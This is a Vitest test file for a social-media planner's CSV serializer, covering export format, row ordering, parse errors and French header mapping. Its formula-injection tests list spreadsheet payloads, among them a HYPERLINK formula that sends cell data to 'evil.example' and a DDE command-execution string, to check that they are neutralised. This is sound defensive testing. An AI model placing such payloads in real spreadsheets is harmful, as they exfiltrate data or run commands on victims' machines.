import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, fromCsv, guessMapping, toCsv } from '../../../shared/serializers/csv';
import { neutraliseCell, restoreCell } from '../../../shared/serializers/csvCells';
import { CLIENTS, PARIS, inputOf, makePost } from './fixtures';

const HEADER = 'id,client,date,time,channel,format,tone,intent,invites_participation,status,title,caption,first_comment,media_files,media_alt,tags,pillar,notes,intent_source,participation_source,backlog_order,evergreen_weeks,evergreen_last_used,published_at,live_url,approval,changed_after_review,series,client_id,created_at,updated_at';
const rawCells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { header: false, skipEmptyLines: true }).data;

describe('toCsv', () => {
  it('writes a BOM, the header row in a fixed order, CRLF after every row', () => {
    const csv = toCsv([makePost()], CLIENTS);
    expect(CSV_COLUMNS.join(',')).toBe(HEADER);
    expect(csv.startsWith(`\ufeff${HEADER}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(rawCells(csv)[1]).toEqual([
      'post-1', 'Boulangerie Dupont, Paris', '2026-03-29', '09:00', 'instagram', 'image', 'serious', 'promotional', 'false',
      'scheduled', 'Launch day', 'New bread, come taste it!', '', '', '', 'launch; bread', '', 'Check the photo rights', 'user', 'auto', '', '', '', '', '', '', '', '',
      'client-paris', '2026-02-01T10:00:00.000Z', '2026-02-02T11:30:00.000Z',
    ]);
  });

  it('can leave the BOM out, pick columns, and use ; as delimiter', () => {
    const csv = toCsv([makePost()], CLIENTS, { bom: false, columns: ['date', 'title', 'caption'], delimiter: ';' });
    expect(csv).toBe('date;title;caption\r\n2026-03-29;Launch day;New bread, come taste it!\r\n');
  });

  it('orders rows by day and time, untimed first, ideas last', () => {
    const posts = [
      makePost({ id: 'idea', date: null, time: null, status: 'idea' }),
      makePost({ id: 'late', time: '18:00' }),
      makePost({ id: 'untimed', time: null }),
      makePost({ id: 'early', date: '2026-01-01' }),
    ];
    expect(rawCells(toCsv(posts, CLIENTS)).slice(1).map((r) => r[0])).toEqual(['early', 'untimed', 'late', 'idea']);
  });
});

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=1+1',
  "'=already quoted",
  "''@twice",
  '-5',
];

describe('formula injection', () => {
  it.each(FORMULAS)('neutralises %j in every text column and restores it exactly on import', (payload) => {
    const post = makePost({ title: payload, caption: payload, notes: payload, tags: [payload.trim().slice(0, 40)] });
    const csv = toCsv([post], CLIENTS);
    const cells = rawCells(csv)[1]!;
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells[11]).toBe(`'${payload}`); // caption: kept as is (titles and tags are trimmed by the model)
    const { rows, errors } = fromCsv(csv);
    expect(errors).toEqual([]);
    expect(rows[0]?.post).toEqual(inputOf(post));
  });

  it('adds exactly one quote and removes exactly one, so the round trip is exact', () => {
    expect(neutraliseCell('=1')).toBe("'=1");
    expect(neutraliseCell("'=1")).toBe("''=1");
    expect(neutraliseCell("'hello")).toBe("'hello");
    expect(neutraliseCell('hello=1')).toBe('hello=1');
    expect(restoreCell("'=1")).toBe('=1');
    expect(restoreCell("''=1")).toBe("'=1");
    expect(restoreCell("'hello")).toBe("'hello");
    expect(restoreCell("'")).toBe("'");
  });
});

describe('fromCsv', () => {
  it('reads a file without BOM, with LF ends, ; delimiter and quoted line breaks; never types values', () => {
    const text = 'id;title;date;time;channel;caption\n00123;00123;2026-03-29;;instagram;"line one\nline two; still"\n';
    const { rows, errors, delimiter } = fromCsv(text, { clientId: PARIS.id });
    expect(errors).toEqual([]);
    expect(delimiter).toBe(';');
    expect(rows[0]).toMatchObject({ line: 2, sourceId: '00123', post: { title: '00123', caption: 'line one\nline two; still', time: null } });
  });

  it.each([
    ['date', '2026-02-30', "line 3: date '2026-02-30' does not exist"],
    ['date', '30/02/2026', "line 3: date '30/02/2026' does not exist"],
    ['date', '03/04/2026', "line 3: date '03/04/2026' could be day/month or month/day: write it yyyy-MM-dd or choose the day order"],
    ['date', 'tomorrow', "line 3: date 'tomorrow' is not a date (yyyy-MM-dd)"],
    ['time', '25:00', "line 3: time '25:00' is not a time (HH:mm)"],
    ['time', '9:5', "line 3: time '9:5' is not a time (HH:mm)"],
    ['format', 'reel', "line 3: unknown format 'reel' — expected one of text, image, carousel, video, short_video, story, live, infographic, article, tutorial, testimonial, behind_the_scenes, quiz, poll, contest, challenge, question, ugc_repost, meme"],
    ['channel', 'myspace', "line 3: unknown channel 'myspace' — expected one of instagram, facebook, linkedin, tiktok, x, youtube, pinterest, threads, bluesky, blog, newsletter"],
    ['status', 'done', "line 3: unknown status 'done' — expected one of idea, draft, ready, scheduled, published"],
    ['invites_participation', 'maybe', "line 3: invites_participation 'maybe' is not yes or no (true/false)"],
    ['title', '   ', 'line 3: title is empty'],
    ['date', '', 'line 3: a post that is not an idea needs a date'],
    ['title', 'x'.repeat(201), 'line 3: title is longer than 200 characters'],
    ['tags', 'ok; '.concat('y'.repeat(41)), `line 3: tag '${'y'.repeat(41)}' must be 1 to 40 characters`],
  ])('reports a bad %s %j with its line and reason', (column, value, message) => {
    const cells: Record<string, string> = { title: 'Hello', date: '2026-03-29', time: '10:00', channel: 'instagram', format: 'image', status: 'scheduled', invites_participation: 'no', tags: '' };
    cells[column] = value;
    const keys = Object.keys(cells);
    const text = [keys.join(','), keys.map(() => '').join(','), keys.map((k) => `"${cells[k]}"`).join(',')].join('\r\n');
    const { rows, errors } = fromCsv(text, { clientId: PARIS.id });
    expect(rows).toEqual([]);
    expect(errors.map((e) => e.message)).toEqual([message]);
    expect(errors[0]?.line).toBe(3);
  });

  it('gives the line where the row starts, after multi-line quoted cells', () => {
    const text = [
      'title,caption,date', // 1
      'ok,"two', // 2
      'lines",2026-01-01', // 3
      '', // 4 (blank, skipped)
      'ok,"three', // 5
      '', // 6 (inside the quotes)
      'lines",2026-01-02', // 7
      'bad,"also\r\nmulti",2026-02-30', // 8-9 (CRLF inside, LF outside)
      ',empty title,2026-01-03', // 10
    ].join('\n');
    const { rows, errors } = fromCsv(text, { clientId: PARIS.id, defaults: { channel: 'blog' } });
    expect(rows.map((r) => r.line)).toEqual([2, 5]);
    expect(rows[1]?.post.caption).toBe('three\n\nlines');
    expect(errors.map((e) => e.message)).toEqual(["line 8: date '2026-02-30' does not exist", 'line 10: title is empty']);
  });

  it('counts lines the same way with CR-only line ends', () => {
    const text = 'title,date\r"a\rb",2026-01-01\rbad,2026-13-01\r';
    expect(fromCsv(text, { clientId: 'c', defaults: { channel: 'x' } }).errors.map((e) => e.line)).toEqual([4]);
  });

  it('reports quotes that are never closed or not doubled, and rows with too many cells', () => {
    const unclosed = fromCsv('title,date\nok,2026-01-01\n"never closed,2026-01-02\nmore,2026-01-03\n', { clientId: 'c', defaults: { channel: 'x' } });
    expect(unclosed.rows).toHaveLength(1);
    expect(unclosed.errors.map((e) => [e.code, e.line])).toEqual([['csv.unclosedQuote', 3]]);
    const extra = fromCsv('title,date\nhello, world,2026-01-01\n', { clientId: 'c', defaults: { channel: 'x' } });
    expect(extra.errors.map((e) => e.message)).toEqual(['line 2: 3 cells but the header has 2 (is a cell with a delimiter missing its quotes?)']);
    const malformed = fromCsv('title,date\n"bad"quote,2026-01-01\n', { clientId: 'c', defaults: { channel: 'x' } });
    expect(malformed.errors.map((e) => [e.code, e.line])).toEqual([['csv.malformedQuote', 2]]);
  });

  it('reads a French planning sheet: headers, labels, dd/MM/yyyy, 9h30', () => {
    const text = '\ufeffDate;Heure;Titre;Légende;Réseau;Format;Statut;Ton;Étiquettes\r\n29/03/2026;9h30;Lancement;Venez goûter !;Instagram;Vidéo courte;Programmée;Ludique;pain, été\r\n';
    const { rows, errors, mapping } = fromCsv(text, { clientId: PARIS.id, dayOrder: 'dmy' });
    expect(errors).toEqual([]);
    expect(mapping).toMatchObject({ date: 'Date', time: 'Heure', title: 'Titre', caption: 'Légende', channel: 'Réseau', status: 'Statut' });
    expect(rows[0]?.post).toMatchObject({ date: '2026-03-29', time: '09:30', channel: 'instagram', format: 'short_video', status: 'scheduled', tone: 'playful', tags: ['pain', 'été'] });
  });

  it('fills defaults: status from the date, tone from the format, sources auto', () => {
    const { rows } = fromCsv('title,date,format\nidea,,poll\ndated,2026-05-01,text\n', { clientId: PARIS.id, defaults: { channel: 'x' } });
    expect(rows.map((r) => [r.post.status, r.post.tone, r.post.invitesParticipation, r.post.intentSource])).toEqual([
      ['idea', 'playful', true, 'auto'],
      ['scheduled', 'serious', false, 'auto'],
    ]);
  });

  it('needs a client: the option or a client_id cell', () => {
    const { rows, errors } = fromCsv('title,channel,client_id\na,x,c1\nb,x,\n');
    expect(rows.map((r) => r.post.clientId)).toEqual(['c1']);
    expect(errors.map((e) => [e.code, e.line])).toEqual([['row.clientMissing', 3]]);
  });

  it('says what is wrong with the file as a whole', () => {
    expect(fromCsv('').errors[0]?.code).toBe('csv.empty');
    expect(fromCsv('\ufeff\r\n\r\n').errors[0]?.code).toBe('csv.empty');
    expect(fromCsv('foo,bar\n1,2\n').errors[0]).toMatchObject({ code: 'csv.noTitleColumn', line: 1, message: "line 1: no title column (expected 'title', 'Titre', 'Subject'…); found: foo, bar" });
    expect(fromCsv('foo,bar\n1,2\n', { mapping: { title: 'Name' } }).errors[0]).toMatchObject({ code: 'csv.mappingHeaderMissing' });
    expect(fromCsv('foo,bar\n1,2\n', { mapping: { title: 'bar' }, clientId: 'c', defaults: { channel: 'x' } }).rows[0]?.post.title).toBe('2');
  });
});

describe('guessMapping', () => {
  it('matches common English and French headers, ignoring case, accents and punctuation', () => {
    expect(guessMapping(['Date', 'Heure', 'Titre', 'Légende', 'Réseau', 'Statut', 'Étiquettes', 'Remarques'])).toEqual({
      date: 'Date', time: 'Heure', title: 'Titre', caption: 'Légende', channel: 'Réseau', status: 'Statut', tags: 'Étiquettes', notes: 'Remarques',
    });
    expect(guessMapping(['Publish date', 'TIME', 'Subject', 'Caption', 'Platform', 'Content type', 'Hashtags', 'Post ID'])).toEqual({
      date: 'Publish date', time: 'TIME', title: 'Subject', caption: 'Caption', channel: 'Platform', format: 'Content type', tags: 'Hashtags', id: 'Post ID',
    });
    expect(guessMapping([...CSV_COLUMNS])).toEqual(Object.fromEntries(CSV_COLUMNS.map((c) => [c, c])));
    expect(guessMapping(['Title', 'Titre'])).toEqual({ title: 'Title' });
    expect(guessMapping(['Whatever'])).toEqual({});
  });
});
